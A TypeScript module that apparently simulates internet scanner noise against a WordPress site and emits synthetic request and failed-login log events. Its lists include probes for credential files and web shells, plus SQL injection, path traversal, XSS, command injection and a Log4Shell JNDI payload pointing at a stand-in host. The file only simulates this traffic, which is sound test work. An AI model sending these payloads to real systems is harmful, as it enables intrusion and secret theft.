import type { Random } from '../../../contracts/seeded-random.ts';
import { PYTHON } from '../agents.ts';
import { HOUR } from '../clock.ts';
import { act, request } from '../scenario-event.ts';
import type { ScenarioEvent } from '../scenario-event.ts';
import type { Client, Site } from '../site.ts';

/** What scanners ask every site for, and get nothing. */
const PROBES = [
  '/.env', '/.git/config', '/wp-config.php.bak', '/wp-content/debug.log', '/backup.sql', '/wp-admin/install.php', '/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/wp-content/uploads/2026/shell.php', '/wso.php', '/phpmyadmin/index.php', '/.aws/credentials', '/wp-json/wp/v2/users', '/?author=1', '/?author=2', '/administrator/index.php', '/cgi-bin/luci', '/owa/auth/logon.aspx', '/wp-content/backups/', '/server-status',
];
const TRICKS = [
  '/product/?id=1%27%20OR%20%271%27%3D%271', '/index.php?id=1%20UNION%20SELECT%20NULL,NULL,NULL--', '/wp-content/plugins/gallery/download.php?file=../../../../etc/passwd', '/search.php?q=%3Cscript%3Ealert(1)%3C/script%3E', '/cgi-bin/test?x=;id;',
  '/api/x?u=${jndi:ldap://203.0.113.250/a}', '/?id=1%27%20AND%20SLEEP(5)--%20-', '/shop/?orderby=price%27%20OR%201=1--', '/?page=../../../../wp-config.php', '/?s=%3Cscript%3Ealert(1)%3C/script%3E', '/?q=%7B%7B7*7%7D%7D',
];
const AGENT = 'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)';

/** WordPress answers what it does not understand with a page as always: parameters of the start page or the shop change nothing. */
function answer(target: string, random: Random): { readonly status: number; readonly bytes: number } {
  if (target.startsWith('/?author=')) return { status: 301, bytes: 0 };
  if (target === '/wp-json/wp/v2/users') return { status: 401, bytes: 140 };
  if (/^\/(?:shop\/)?\?/.test(target)) return { status: 200, bytes: 31_000 + random.below(400) };
  return { status: random.pick([404, 404, 404, 403]), bytes: 560 };
}

/** Goes through a list of weak places; the site has none of them. */
function* probe(site: Site, at: number, ip: string, random: Random): Generator<ScenarioEvent> {
  const client: Client = { ip, agent: random.pick([AGENT, PYTHON, 'Go-http-client/1.1', 'Mozilla/5.0 zgrab/0.x']) };
  const count = 5 + random.below(20);
  for (let i = 0; i < count; i++) {
    const target = random.pick(random.chance(0.25) ? TRICKS : PROBES);
    yield request(site, at + i * (500 + random.below(3_000)), client, `GET ${target}`, answer(target, random));
  }
}

/** Tries a word or two at the log-in form, as botnets do from many addresses. */
function* guess(site: Site, at: number, ip: string, random: Random): Generator<ScenarioEvent> {
  const client: Client = { ip, agent: random.pick([PYTHON, 'Mozilla/5.0']) };
  const tries = 1 + random.below(5);
  for (let i = 0; i < tries; i++) {
    const when = at + i * 40_000;
    yield request(site, when, client, random.chance(0.7) ? 'POST /wp-login.php' : 'POST /xmlrpc.php', { bytes: 4_900, status: random.pick([200, 403]) });
    yield act(site, when, 'authentication/login-failed', { ...client, user: random.pick(['admin', site.name, 'test', 'root', site.domain]) }, { outcome: 'failure' });
  }
}

/** The scanners that find every site within a day, and get nothing. */
export function* scanners(site: Site, day: number, random: Random): Generator<ScenarioEvent> {
  const probing = 2 + random.below(3);
  for (let i = 0; i < probing; i++) yield* probe(site, day + random.below(23 * HOUR), `203.0.113.${100 + random.below(60)}`, random);
  const guessing = 3 + random.below(6);
  for (let i = 0; i < guessing; i++) yield* guess(site, day + random.below(23 * HOUR), `203.0.113.${160 + random.below(60)}`, random);
}
